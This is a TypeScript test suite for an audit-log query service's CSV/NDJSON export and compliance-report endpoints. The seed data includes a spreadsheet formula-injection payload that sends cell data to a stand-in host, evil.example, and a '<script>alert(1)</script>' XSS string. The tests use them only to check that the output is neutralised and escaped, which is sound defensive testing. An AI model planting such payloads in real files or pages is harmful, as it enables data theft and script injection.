import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { callApi } from './support/api-client.js';
import { startQueryTestbed, type QueryTestbed, type SeedEventSpec } from './support/query-harness.js';

/** Splits RFC 4180 CSV text into rows of fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 1; } else if (c === '"') quoted = false; else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; } else if (c === '\n') { row.push(field.replace(/\r$/, '')); rows.push(row); row = []; field = ''; } else field += c;
  }
  return rows;
}

describe('query API: streamed export and compliance report', () => {
  let bed: QueryTestbed;
  const N = 3000;
  const start = Date.now() - 2 * 3_600_000;
  const tricky = '/api/v1/pods?labelSelector=app%20in%20(a,b)&note="quoted"';
  const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';
  before(async () => {
    bed = await startQueryTestbed({ env: { QUERY_MAX_CONCURRENT_EXPORTS: '1' } });
    const specs: SeedEventSpec[] = Array.from({ length: N }, (_, i) => ({
      at: new Date(start + i * 1000), actor: i % 10 === 0 ? 'eve@example.com' : 'system:serviceaccount:agents:mcp',
      verb: i % 2 === 0 ? 'get' : 'list', resource: i % 50 === 0 ? 'secrets' : 'pods', namespace: 'payments',
      ...(i === 7 ? { requestURI: tricky } : {}),
      ...(i % 100 === 1 ? { decision: 'deny' as const, code: 403, ruleId: 'no-<script>alert(1)</script>' } : {}),
      ...(i === 11 ? { resource: 'pods', subresource: 'exec', verb: 'create', name: 'api-0' } : {}),
      ...(i === 12 ? { resource: 'rolebindings', apiGroup: 'rbac.authorization.k8s.io', verb: 'create', name: 'x' } : {}),
      ...(i === 13 ? { complete: false } : {}),
      ...(i === 14 ? { name: formula } : {}),
    }));
    await bed.seedEvents(specs);
    // A large export outside the 3 h the other tests read: more bytes than loopback socket buffers hold, so an export
    // of it cannot finish while its reader waits (the concurrency test holds its slot with it).
    const hold = 'hoard@example.com';
    const holdStart = Date.now() - 5 * 3_600_000;
    await bed.seedEvents(Array.from({ length: 12_000 }, (_, i): SeedEventSpec => ({
      at: new Date(holdStart + i * 100), actor: hold, verb: 'list', resource: 'pods', namespace: 'payments', requestURI: `/api/v1/namespaces/payments/pods?limit=${'9'.repeat(400)}`,
    })));
  });
  after(async () => { await bed?.close(); });

  it('streams NDJSON of every exchange in time order', async () => {
    const r = await callApi(bed, '/api/v1/export?since=3h&format=ndjson');
    assert.equal(r.status, 200);
    assert.match(r.headers.get('content-type')!, /application\/x-ndjson/);
    assert.equal(r.headers.get('transfer-encoding'), 'chunked');
    const lines = (r.body as string).trim().split('\n').map((l) => JSON.parse(l));
    assert.equal(lines.length, N);
    assert.equal(new Set(lines.map((l) => l.auditID)).size, N);
    const times = lines.map((l) => Date.parse(l.requestReceivedTimestamp));
    assert.deepEqual(times, [...times].sort((a, b) => a - b));
    assert.equal(lines.filter((l) => l.objectRef?.name === formula).length, 1, 'NDJSON keeps every value byte-faithful');
    const limited = await callApi(bed, '/api/v1/export?since=3h&limit=1234&actor=eve%40example.com');
    assert.equal((limited.body as string).trim().split('\n').length, 300);
  });

  it('streams CSV with a fixed header and correct quoting', async () => {
    const r = await callApi(bed, '/api/v1/export?since=3h&format=csv&limit=2500');
    assert.equal(r.status, 200);
    assert.match(r.headers.get('content-disposition')!, /attachment; filename="auditgate-events-.*\.csv"/);
    const rows = parseCsv(r.body as string);
    assert.equal(rows[0]!.join(','), 'time,auditID,finalStage,verb,actor,onBehalfOf,cluster,namespace,resource,subresource,apiGroup,name,requestURI,status,decision,ruleId,session,tool,sourceIP,userAgent,durationMs');
    assert.equal(rows.length, 2501);
    assert.ok(rows.every((row) => row.length === 21));
    assert.ok(rows.some((row) => row[12] === tricky));
    // Spreadsheet formula injection: the cell is text (a leading '), never a formula a spreadsheet would run.
    assert.ok(rows.some((row) => row[11] === `'${formula}`));
    assert.ok(rows.every((row) => !/^[=+\-@\t\r]/.test(row[11]!) && !/^[=+@\t\r]/.test(row[4]!)));
  });

  it('stops cleanly when the client goes away mid-export', async () => {
    const token = await bed.tokenFor(['analyst'], 'quitter@example.com');
    const abort = new AbortController();
    const res = await fetch(`${bed.baseUrl}/api/v1/export?since=6h&actor=hoard%40example.com`, { headers: { authorization: `Bearer ${token}` }, signal: abort.signal });
    const reader = res.body!.getReader();
    await reader.read();
    abort.abort();
    const deadline = Date.now() + 5000;
    let record: any;
    while (Date.now() < deadline && record?.completedAt === undefined) {
      await new Promise((r) => setTimeout(r, 200));
      await bed.refresh();
      record = (await callApi(bed, '/api/v1/audit?since=1h&actor=quitter%40example.com', { roles: ['admin'] })).body.records[0];
    }
    assert.equal(record.outcome, 'aborted');
    assert.ok(record.results < N, `wrote ${record.results}`);
    assert.equal((await callApi(bed, '/api/v1/events?since=3h&size=1')).status, 200);
  });

  it('runs at most QUERY_MAX_CONCURRENT_EXPORTS exports at once (429 beyond), freeing the slot when one ends', async () => {
    const token = await bed.tokenFor(['analyst'], 'hoarder@example.com');
    const abort = new AbortController();
    const res = await fetch(`${bed.baseUrl}/api/v1/export?since=6h&actor=hoard%40example.com`, { headers: { authorization: `Bearer ${token}` }, signal: abort.signal });
    await res.body!.getReader().read();
    const refused = await callApi(bed, '/api/v1/export?since=3h&limit=1');
    assert.equal(refused.status, 429);
    assert.equal(refused.body.error.code, 'AUDITGATE_E_RATE_LIMITED');
    abort.abort();
    const deadline = Date.now() + 5000;
    let again = await callApi(bed, '/api/v1/export?since=3h&limit=1');
    while (again.status === 429 && Date.now() < deadline) { await new Promise((r) => setTimeout(r, 100)); again = await callApi(bed, '/api/v1/export?since=3h&limit=1'); }
    assert.equal(again.status, 200);
  });

  it('reports secret reads, denials, exec, RBAC changes and coverage as JSON and escaped HTML', async () => {
    const r = await callApi(bed, '/api/v1/reports/compliance?since=3h');
    assert.equal(r.status, 200, JSON.stringify(r.body));
    assert.equal(r.body.totalEvents, N);
    assert.equal(r.body.secretReads.total, N / 50);
    assert.equal(r.body.deniedAttempts.total, N / 100);
    assert.deepEqual(r.body.deniedAttempts.byRule, [{ key: 'no-<script>alert(1)</script>', count: N / 100 }]);
    assert.equal(r.body.execSessions.total, 1);
    assert.equal(r.body.rbacChanges.events[0].resource, 'rolebindings');
    assert.deepEqual(r.body.coverage.byCluster, [{ cluster: 'prod-eu', events: N, complete: N - 1, incomplete: 1 }]);
    const html = await callApi(bed, '/api/v1/reports/compliance?since=3h&format=html');
    assert.match(html.headers.get('content-type')!, /text\/html/);
    assert.ok(!(html.body as string).includes('<script>'));
    assert.ok((html.body as string).includes('no-&#60;script&#62;alert(1)&#60;/script&#62;'));
    assert.equal((await callApi(bed, '/api/v1/reports/compliance?format=pdf')).body.error.parameter, 'format');
  });
});
